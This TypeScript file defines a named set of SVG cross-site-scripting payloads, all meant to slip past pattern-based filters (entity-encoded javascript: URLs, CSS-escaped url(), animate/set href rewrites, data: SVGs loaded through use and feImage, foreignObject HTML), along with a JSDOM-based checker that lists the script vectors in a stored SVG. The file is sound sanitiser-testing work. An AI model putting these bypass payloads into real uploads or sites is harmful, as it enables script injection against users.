/**
 * SVG attack payloads (each bypassed, or would have bypassed, a pattern-based filter) and an
 * independent checker that reads a stored SVG the way a browser does (XML parser) and lists every
 * script vector left in it. The checker shares no code with the sanitiser on purpose.
 */
import { JSDOM } from 'jsdom';

const SVG_NS = 'http://www.w3.org/2000/svg';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inner: string, attrs = '') => `<svg xmlns="${SVG_NS}" ${XLINK}${attrs}>${inner}</svg>`;
const svgDataUrl = Buffer.from(svg('<script>alert(1)</script><rect id="x"/>')).toString('base64');

/** name → file contents. */
export const SVG_PAYLOADS: Record<string, string> = {
  'slash-separated handler <g/onload>': svg('<g/onload=alert(1)><rect width="5" height="5"/></g>'),
  'handler on the root': `<svg xmlns="${SVG_NS}" onload="alert(1)"><rect width="5" height="5"/></svg>`,
  'mixed-case handler on <image>': svg('<image href="data:image/png;base64,iVBORw0KGgo=" ONERROR = "alert(1)"/>'),
  'decimal-entity javascript: href': svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>'),
  'hex-entity javascript: xlink:href': svg('<a xlink:href="&#x6A;avascript&colon;alert(1)"><text>x</text></a>'),
  'padded-entity javascript: href': svg('<a href="&#0000106&#0000097vascript:alert(1)"><text>x</text></a>'),
  'tab inside javascript:': svg('<a href="java&#9;script:alert(1)"><text>x</text></a>'),
  'entity colon': svg('<a href="javascript&#x3A;alert(1)"><text>x</text></a>'),
  'style attribute url(javascript:)': svg('<rect width="5" height="5" style="fill: url(javascript:alert(1))"/>'),
  'CSS-escaped url(javascript:)': svg('<rect width="5" height="5" style="background:u\\72 l(&quot;j\\61vascript:alert(1)&quot;)"/>'),
  'presentation attribute url(javascript:)': svg(
    '<rect width="5" height="5" fill="url(javascript:alert(1))" filter="url(https://evil.example/f.svg#x)"/>',
  ),
  '<style> url(javascript:) and @import': svg(
    '<style>rect { background-image: url("javascript:alert(1)") } @import url(https://evil.example/x.css);</style><rect width="5" height="5"/>',
  ),
  '<animate> setting href to javascript:': svg(
    '<a><animate attributeName="href" to="javascript:alert(1)" begin="0s"/><text>click</text></a>',
  ),
  '<set> setting xlink:href to javascript:': svg('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>click</text></a>'),
  '<animate values> with javascript:': svg('<a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
  '<use href> to a data: SVG with a script': svg(`<use href="data:image/svg+xml;base64,${svgDataUrl}#x"/>`),
  '<use xlink:href> to an inline data: SVG': svg(
    `<use xlink:href="data:image/svg+xml,&lt;svg id='x' xmlns='${SVG_NS}'&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;#x"/>`,
  ),
  '<use href> to an external file': svg('<use href="https://evil.example/sprite.svg#icon"/>'),
  '<feImage> to a data: SVG': svg(
    `<filter id="f"><feImage href="data:image/svg+xml;base64,${svgDataUrl}"/></filter><rect width="5" height="5" filter="url(#f)"/>`,
  ),
  '<script>': svg('<script>alert(1)</script><script href="https://evil.example/x.js"/><rect width="5" height="5"/>'),
  '<foreignObject> with HTML': svg(
    '<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject>',
  ),
  'entity declarations': `<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]>\n${svg('<text>&b;</text>')}`,
  'XHTML namespace switch': svg(`<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><a href="javascript:alert(1)">x</a></g>`),
  'content after the root': `${svg('<rect width="5" height="5"/>')}<script>alert(1)</script><img src=x onerror=alert(1)>`,
};

const decodeCss = (s: string) =>
  s
    .replace(/\/\*[\s\S]*?\*\//g, '')
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, h: string) => String.fromCodePoint(Math.min(parseInt(h, 16) || 0xfffd, 0x10ffff)))
    .replace(/\\(.)/g, '$1')
    .replace(/[\s\u0000-\u001f]+/g, '')
    .toLowerCase();

const ACTIVE_ELEMENTS = new Set(['script', 'foreignobject', 'animate', 'set', 'iframe', 'embed', 'object', 'handler', 'listener']);

/** Every script vector in an SVG file as a browser would parse it; [] when there is none. */
export function scriptVectors(file: string): string[] {
  const found: string[] = [];
  if (/<!DOCTYPE|<!ENTITY/i.test(file)) found.push('DOCTYPE / entity declaration');
  let doc: Document;
  try {
    doc = new JSDOM(file, { contentType: 'image/svg+xml' }).window.document;
  } catch (err) {
    return [`not well-formed XML: ${(err as Error).message}`];
  }
  if (doc.documentElement.localName !== 'svg' || doc.documentElement.namespaceURI !== SVG_NS) found.push('root is not an SVG <svg>');
  for (const el of [doc.documentElement, ...doc.documentElement.querySelectorAll('*')]) {
    const tag = el.localName.toLowerCase();
    if (el.namespaceURI !== SVG_NS) found.push(`<${el.localName}> outside the SVG namespace`);
    if (ACTIVE_ELEMENTS.has(tag)) found.push(`<${el.localName}>`);
    if (tag === 'style' && /url\((?!['"]?#)|script:|@import|expression\(/.test(decodeCss(el.textContent ?? '')))
      found.push('<style> loading or running something');
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      const value = decodeCss(a.value);
      if (name.startsWith('on')) found.push(`${a.name} on <${el.localName}>`);
      if (/(?:java|vb)script:/.test(value)) found.push(`script URL in ${a.name} on <${el.localName}>`);
      if (/url\((?!['"]?#)/.test(value)) found.push(`external url() in ${a.name} on <${el.localName}>`);
      if (name === 'attributename' && value.includes('href')) found.push(`<${el.localName}> animating href`);
      if (a.localName === 'href' && tag !== 'a' && !value.startsWith('#') && !/^data:image\/(?:png|jpe?g|gif|webp);/.test(value)) {
        found.push(`${a.name}="${a.value.slice(0, 40)}" on <${el.localName}> loads something`);
      }
    }
  }
  return found;
}
